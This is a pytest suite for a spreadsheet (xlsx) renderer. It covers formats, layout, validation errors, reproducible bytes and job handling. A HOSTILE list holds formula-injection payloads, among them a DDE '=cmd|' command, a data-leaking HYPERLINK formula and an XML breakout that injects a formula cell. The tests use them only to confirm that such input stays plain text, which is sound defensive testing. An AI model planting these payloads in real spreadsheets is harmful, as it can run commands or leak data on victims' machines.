"""``spreadsheet``: what Excel is told, read back with another library; text stays text; what is refused, and where."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import example, given, settings
from hypothesis import strategies as st
from sqlalchemy.orm import Session

import jobkit
from jobkit.assets.spool import Spool
from jobkit.contrib.renderers import spreadsheet
from tests.support.rendering import attempt

RENDERERS = jobkit.Renderers()
spreadsheet.register(RENDERERS)


def made(*sheets: dict[str, Any], **fields: Any) -> jobkit.Rendered:
    (file,) = RENDERERS.render("spreadsheet", {"sheets": list(sheets), **fields})
    assert file.content_type == spreadsheet.CONTENT_TYPE
    return file


def book(*sheets: dict[str, Any], **fields: Any) -> Any:
    body = made(*sheets, **fields).body
    assert isinstance(body, bytes)
    return openpyxl.load_workbook(io.BytesIO(body))


def one(*rows: list[Any], columns: Any = ("A", "B", "C")) -> Any:
    return book({"columns": list(columns), "rows": list(rows)}).active


def parts(file: jobkit.Rendered) -> dict[str, str]:
    assert isinstance(file.body, bytes)
    with zipfile.ZipFile(io.BytesIO(file.body)) as archive:
        assert archive.testzip() is None
        found = {name: archive.read(name).decode() for name in archive.namelist()}
    for text in found.values():
        ElementTree.fromstring(text)
    return found


# --- what is in it


def test_a_sheet_has_titles_that_stay_in_sight_filters_and_the_formats_of_its_columns() -> None:
    columns = [
        "Name",
        {"title": "Count", "format": "integer"},
        {"title": "Sum", "format": "number", "width": 33},
        {"title": "Share", "format": "percent"},
        {"title": "Day", "format": "date"},
        {"title": "At", "format": "datetime"},
        {"title": "Code", "format": "text"},
    ]
    row = ["Ada", 12345, 1234.5, 0.25, "2026-01-31", "2026-01-31T12:30:00+02:00", 7]
    page = book({"name": "Sales", "columns": columns, "rows": [row, ["Grace", None, True]]}).active
    assert page.title == "Sales"
    assert [cell.value for cell in page[1]] == ["Name", "Count", "Sum", "Share", "Day", "At", "Code"]
    assert [cell.value for cell in page[2]] == [
        *("Ada", 12345, 1234.5, 0.25),
        *(datetime(2026, 1, 31), datetime(2026, 1, 31, 10, 30), "7"),
    ]
    assert [cell.value for cell in page[3]] == ["Grace", None, True, None, None, None, None]
    formats = ["General", "#,##0", "#,##0.00", "0.0%", "yyyy-mm-dd", "yyyy-mm-dd hh:mm", "@"]
    assert [cell.number_format for cell in page[2]] == formats
    assert all(cell.font.bold and cell.fill.fgColor.rgb == "FFE7ECF2" for cell in page[1])
    assert [cell.alignment.horizontal for cell in page[1]] == [None, *["right"] * 5, None]
    assert (page.freeze_panes, page.auto_filter.ref, page.print_title_rows) == ("A2", "A1:G3", "$1:$1")
    assert page.column_dimensions["C"].width == pytest.approx(33, abs=1)


def test_columns_are_as_wide_as_their_text_and_long_text_is_wrapped() -> None:
    page = one(["x", "y" * 30, "z" * 500], ["x", "second\nline", None])
    widths = [page.column_dimensions[name].width for name in "ABC"]
    assert widths == [pytest.approx(8, abs=1), pytest.approx(32, abs=1), pytest.approx(60, abs=1)]
    wrapped = [[bool(cell.alignment.wrap_text) for cell in row] for row in page.iter_rows(min_row=2)]
    assert wrapped == [[False, False, True], [False, True, False]]


def test_several_sheets_keep_their_order_and_have_names_of_their_own() -> None:
    sheets = book({"columns": ["A"]}, {"name": "Zwei ' & <b>", "columns": ["A"]}, {"columns": ["A"]})
    assert sheets.sheetnames == ["Sheet1", "Zwei ' & <b>", "Sheet3"]
    assert [page.max_row for page in sheets] == [1, 1, 1]


def test_the_workbook_knows_its_title_author_and_file_name_and_nothing_of_the_machine() -> None:
    file = made({"columns": ["A"]}, title="Sales", author="Ada", filename="umsätze")
    assert file.filename == "umsätze.xlsx"
    properties = openpyxl.load_workbook(io.BytesIO(file.body)).properties  # type: ignore[arg-type]
    assert (properties.title, properties.creator, properties.created) == ("Sales", "Ada", datetime(2000, 1, 1))
    assert made({"columns": ["A"]}).filename == "spreadsheet.xlsx"


@pytest.mark.parametrize(
    ("number", "kept"),
    [
        *((n, n) for n in (0, -1, 0.1, 1e-300, 1e300, 999_999_999_999_999)),
        (1_000_000_000_000_000, "1000000000000000"),
        (-12345678901234567890, "-12345678901234567890"),
    ],
)
def test_a_number_keeps_all_its_digits(number: Any, kept: Any) -> None:
    assert one([number])["A2"].value == kept


# --- text stays text

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "{=1+1}",
    "\t=1+1",
    "\n=1+1",
    "http://example.org",
    "mailto:a@example.org",
    "internal:Sheet1!A1",
    "external:\\\\server\\share\\x.xlsx",
    "'quoted",
    "0123",
    "1e5",
    "TRUE",
    "  spaces  ",
    "<b>&amp;</b>",
    "]]><!-- -->",
    "_x0041_",
    "<r><t>bold</t></r>",
    '<r></t></is></c><c r="B2"><f>1+1</f><v>2</v></c><c r="C2" t="inlineStr"><is><t></r>',
    "日本語 🎈 é",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_do_something_is_only_text_wherever_it_stands(text: str) -> None:
    columns = [text, {"title": text, "format": "text"}, "C"]
    file = made({"columns": columns, "rows": [[text, text]]}, title=text.strip(), author="a" + text)
    page = openpyxl.load_workbook(io.BytesIO(file.body)).active  # type: ignore[arg-type]
    cells = [page["A1"], page["B1"], page["A2"], page["B2"]]
    assert [_read(cell) for cell in cells] == [text] * 4
    assert page["C2"].value is None
    found = parts(file)
    sheet = found["xl/worksheets/sheet1.xml"]
    for what in ("<f>", "<f ", "<hyperlink", "<oleObject", "<legacyDrawing"):
        assert what not in sheet
    assert [name for name in found if "external" in name or "vba" in name.lower()] == []
    assert not any('TargetMode="External"' in text for text in found.values())


def _read(cell: Any) -> str:
    """openpyxl leaves ``_x0041_`` as the file spells it, and takes each ``=`` at the start for a formula."""
    return re.sub("_x005F_", "_", str(cell.value))


TEXT = st.text(max_size=40).map(lambda text: text.replace("\0", "").replace("\r", ""))


@settings(max_examples=60, deadline=None)
@given(st.lists(TEXT, min_size=3, max_size=3))
@example(["\ufffe", "\uffff", "\x1f\x7f\x85"])
def test_any_text_gives_well_formed_xml_and_comes_back(texts: list[str]) -> None:
    file = made({"columns": ["A", "B", "C"], "rows": [texts]}, title="t" + texts[0], author="a" + texts[1])
    sheet = ElementTree.fromstring(parts(file)["xl/worksheets/sheet1.xml"])
    tags = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    shown = {
        cell.attrib["r"]: "".join(text.text or "" for text in cell.iter(f"{tags}t")) for cell in sheet.iter(f"{tags}c")
    }
    for name, text in zip(("A2", "B2", "C2"), texts, strict=True):
        assert shown.get(name, "").replace("_x005F_", "_") == spreadsheet._written(text, "cell").replace("_x005F_", "_")


# --- what stays the same


def test_the_same_input_gives_the_same_bytes_in_another_process_time_and_folder(tmp_path: Path) -> None:
    script = (
        "import sys, json, os, jobkit\nfrom jobkit.contrib.renderers import spreadsheet\nos.umask(0o77)\n"
        "r = jobkit.Renderers()\nspreadsheet.register(r)\n"
        "sys.stdout.buffer.write(r.render('spreadsheet', json.load(sys.stdin))[0].body)"
    )
    other = subprocess.run(
        [sys.executable, "-c", script],
        input=b'{"sheets": [{"columns": ["A", "B"], "rows": [["x", 1], ["y", 2.5]]}]}',
        stdout=subprocess.PIPE,
        cwd=tmp_path,
        env={**os.environ, "PYTHONHASHSEED": "7", "TZ": "Asia/Tokyo"},
        check=True,
    )
    assert made({"columns": ["A", "B"], "rows": [["x", 1], ["y", 2.5]]}).body == other.stdout


# --- what is refused

LONG = "x" * 32_768


def sheet(**fields: Any) -> dict[str, Any]:
    return {
        "sheets": [{"columns": ["A", {"title": "B", "format": "number"}, {"title": "C", "format": "date"}], **fields}]
    }


@pytest.mark.parametrize(
    ("input", "message"),
    [
        ({}, "sheets must be a list of at least one sheet"),
        ({"sheets": {}}, "sheets must be a list of at least one sheet"),
        ({"sheets": []}, "sheets must be a list of at least one sheet"),
        ({"sheets": [{"columns": ["A"]}] * 201}, "sheets has 201 sheets, the limit is 200"),
        ({"sheets": [5]}, "sheets[0]: input must be an object"),
        ({"sheets": [{"columns": ["A"], "colour": 1}]}, "sheets[0]: 'colour' is not a field of a sheet"),
        ({"sheets": [{}]}, "sheets[0].columns must be a list of at least one column"),
        ({"sheets": [{"columns": ["A"] * 16_385}]}, "sheets[0].columns has 16385 columns, the limit is 16384"),
        ({"sheets": [{"columns": [5]}]}, "sheets[0].columns[0] must be a title or an object, not int"),
        ({"sheets": [{"columns": [{"title": 5}]}]}, "sheets[0].columns[0].title must be text, not int"),
        ({"sheets": [{"columns": [{"format": "money"}]}]}, "sheets[0].columns[0]: format 'money' is not one of"),
        ({"sheets": [{"columns": [{"width": 0}]}]}, "sheets[0].columns[0]: width must be a whole number from 1 to 255"),
        ({"sheets": [{"columns": [LONG]}]}, "sheets[0].columns[0].title has 32768 characters, a cell holds 32767"),
        (sheet(rows={}), "sheets[0].rows must be a list, not dict"),
        (sheet(rows=[[]] * 1_048_576), "sheets[0].rows has 1048576 rows, the limit is 1048575 below the titles"),
        (sheet(rows=[[], 5]), "sheets[0].rows[1] must be a list, not int"),
        (sheet(rows=[["a"] * 4]), "sheets[0].rows[0] has 4 cells, there are 3 columns"),
        (sheet(rows=[[{}]]), "sheets[0].rows[0][0] must be text, a number, a boolean or null, not dict"),
        (sheet(rows=[[LONG]]), "sheets[0].rows[0][0] has 32768 characters, a cell holds 32767"),
        (sheet(rows=[["🎈" * 16_384]]), "sheets[0].rows[0][0] has 32768 characters"),
        (sheet(rows=[["a", "7"]]), "sheets[0].rows[0][1] must be a number, not '7'"),
        (sheet(rows=[["a", 7, 8]]), "sheets[0].rows[0][2] must be a date such as '2026-01-31', not 8"),
        (sheet(rows=[["a", 7, "31.1."]]), "sheets[0].rows[0][2] must be a date such as '2026-01-31', not '31.1.'"),
        (sheet(rows=[["a", 7, "1900-02-28"]]), "sheets[0].rows[0][2]: Excel has no date before 1900-03-01"),
        (sheet(rows=[["a", 7, "9999-12-31T23:59:59-12:00"]]), "sheets[0].rows[0][2] must be a date"),
        (sheet(name=5), "sheets[0].name must be text, not int"),
        (sheet(name=" "), "sheets[0].name is blank"),
        (sheet(name="x" * 32), "sheets[0].name 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' is longer than 31 characters"),
        (sheet(name="🎈" * 16), "is longer than 31 characters"),
        *(
            (sheet(name=f"a{bad}b"), "has a character that names of sheets do not have")
            for bad in "[]:*?/\\\n\x01\uffff"
        ),
        (sheet(name="'a"), "has a character that names of sheets do not have"),
        (sheet(name="hisTory"), "sheets[0].name 'hisTory' is a name that Excel keeps for itself"),
        (
            {"sheets": [{"columns": ["A"], "name": "sheet2"}, {"columns": ["A"]}]},
            "sheets[1].name 'Sheet2' is that of sheets[0] too",
        ),
        ({"sheets": [], "filename": "../x"}, "filename '../x' has a character that file names do not have everywhere"),
        ({"sheets": [], "title": 5}, "title must be text, not int"),
        ({"shets": []}, "'shets' is not a field of spreadsheet: sheets, title, author, filename"),
    ],
    ids=lambda value: value[:60] if isinstance(value, str) else "",
)
def test_what_excel_cannot_hold_is_refused_by_its_place(input: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        attempt(spreadsheet.render, input)


def test_the_largest_of_everything_is_written() -> None:
    page = one(["x" * 32_767, "🎈" * 16_383])
    assert [len(page["A2"].value), len(page["B2"].value)] == [32_767, 16_383]
    wide = book({"name": "n" * 31, "columns": [f"c{number}" for number in range(16_384)]}).active
    assert (wide.title, wide.max_column, wide["XFD1"].value) == ("n" * 31, 16_384, "c16383")
    assert len(book(*[{"columns": ["A"]}] * 200).sheetnames) == 200


def test_without_its_extra_registering_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    spreadsheet._library.cache_clear()
    with pytest.raises(jobkit.ConfigurationError, match=r"needs xlsxwriter: pip install jobkit\[sheets\]"):
        spreadsheet.register(jobkit.Renderers())


# --- as a job


def test_a_large_table_costs_little_memory_beyond_its_input_and_is_written_by_seeking() -> None:
    input = {"sheets": [{"columns": ["A", "B", "C"], "rows": [[f"r {n}", n, n / 7] for n in range(20_000)]}]}
    places: list[int] = []

    def watched(ctx: jobkit.RenderContext) -> None:
        seek = Spool.seek
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(Spool, "seek", lambda spool, *to: places.append(spool.tell()) or seek(spool, *to))
            spreadsheet.render(ctx)

    tracemalloc.start()
    try:
        (file,) = attempt(watched, input)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert isinstance(file.body, bytes)
    assert peak < (8 << 20) + len(file.body)
    assert any(places)
    page = openpyxl.load_workbook(io.BytesIO(file.body), read_only=True).active
    assert sum(1 for _ in page.iter_rows(values_only=True)) == 20_001


def test_a_job_becomes_a_workbook_and_one_that_fails_or_is_too_large_leaves_nothing(
    engine: sa.Engine, tmp_path: Path, create: Callable[..., jobkit.Job]
) -> None:
    assets = jobkit.AssetStore(tmp_path / "assets", engine=engine, max_bytes=20_000)
    good = create("spreadsheet", input={"sheets": [{"columns": ["A"], "rows": [["x"], [2]]}]})
    bad = create("spreadsheet", input={"sheets": [{"columns": ["A"], "rows": [["x"]] * 10 + [["y", "z"]]}]})
    noise = [[f"{number * number % 99991:x}" for number in range(at, at + 20)] for at in range(0, 40_000, 20)]
    large = create("spreadsheet", input={"sheets": [{"columns": ["A"] * 20, "rows": noise}]})
    assert jobkit.Runner(engine, assets, RENDERERS).run_until_idle(timeout=60) == 3
    with Session(engine) as session:
        (asset,) = assets.list_by_job(session, good.id)
        assets.verify(asset)
        with assets.open(asset) as file:
            assert openpyxl.load_workbook(io.BytesIO(file.read())).active["A3"].value == 2
        messages = [jobkit.JobStore(session).get_by_id(job.id).error_message for job in (bad, large)]  # type: ignore[union-attr]
    assert messages == [
        "sheets[0].rows[10] has 2 cells, there are 1 columns",
        "'spreadsheet.xlsx' is larger than the limit of 20000 bytes (AssetStore(max_bytes=))",
    ]
    assert [path for path in (tmp_path / "assets").rglob("*") if path.is_file()] == [
        tmp_path / "assets" / asset.object_key
    ]


def test_a_renderer_whose_claim_is_lost_stops_between_rows() -> None:
    def check() -> None:
        checks.append(None)
        if len(checks) == 3:
            raise jobkit.LeaseLost("gone")

    checks: list[None] = []
    with pytest.raises(jobkit.LeaseLost):
        attempt(spreadsheet.render, sheet(rows=[["a"]] * 5_000), check=check)
    assert len(checks) == 3
